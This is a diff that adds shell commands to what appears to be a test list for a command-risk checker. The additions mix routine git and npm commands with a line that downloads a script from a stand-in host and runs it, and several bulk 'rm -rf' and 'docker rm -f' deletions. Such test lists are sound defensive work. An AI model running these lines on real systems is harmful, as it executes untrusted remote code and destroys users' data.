@@ -206,3 +206,28 @@ env FOO=1 node app.js
 stdbuf -oL tail -f a.log | grep x
 vim +10 file.txt
 less README.md
+bash /tmp/i.sh
+kubectl delete pod --help
+terraform destroy -help
+find . -name node_modules -type d -prune -exec rm -rf {} +
+/usr/local/bin/tool x
+find . -name dist -exec rm -rf {} +
+npm publish --help
+wget -q https://x.example -O /tmp/i.sh && bash /tmp/i.sh
+git rebase -i HEAD~3
+git commit --amend --no-edit
+chown -R "$USER:$USER" .
+docker rm -f $(docker ps -aq)
+npx prisma migrate deploy
+echo "x=y" >> "$GITHUB_OUTPUT"
+exec node server.js
+rm -rf {src,lib}/generated
+cd build && rm -rf ./*
+find build -mindepth 1 -delete
+git branch --merged | grep -v main | xargs git branch -d
+rg -l x | xargs sed -i 's/a/b/'
+echo build dist | xargs rm -rf
+EDITOR=vim git commit --amend
+fd -e ts -x prettier --write
+printenv NODE_ENV
+node -e "setTimeout(() => console.log(eval('1 + 1')), 10)"
